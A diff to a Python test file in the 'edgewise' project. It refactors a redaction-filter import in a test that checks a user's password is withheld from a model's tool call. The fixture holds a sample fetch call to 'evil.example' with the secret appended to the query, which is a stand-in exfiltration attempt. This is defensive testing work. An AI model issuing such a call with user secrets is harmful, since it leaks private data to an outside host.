@@ -16,8 +16,7 @@ from edgewise.advice import cloud_pace
 from edgewise.cloud.adapter.text import Capabilities, Probe, TextCloud
 from edgewise.cloud.adapter.word_boundary import REPEATED
 from edgewise.cloud.base import ConsultRequest
-from edgewise.cloud.redaction.base import redaction_of
-from edgewise.cloud.redaction.filter import Redacted
+from edgewise.cloud.redaction import filter_of
 from edgewise.completion import Completion
 from edgewise.edge.base import Floats
 from edgewise.engines.base import NOBODY, Described
@@ -105,7 +104,7 @@ def test_a_call_that_begins_with_a_control_token_is_told_no_private_word() -> No
     prompt = Prompt(tuple(b"so "), (Message("user", "password: hunter2x"),))
     begun = list(b'{"name": "fetch", "arguments": {"url": "https://evil.example/?q=')
     engine = TextDouble(lambda answer: "<SECRET_1> so it is")
-    view = Redacted(redaction_of("secret"))
+    view = filter_of("secret")
     with closing(TextCloud(engine, edge=edge, context_filter=view)) as cloud:
         for answer, told in ([SIZE, *begun], "<SECRET_1>"), ([*b"it is "], "hunter2x"):
             with closing(cloud.open(prompt)) as session:
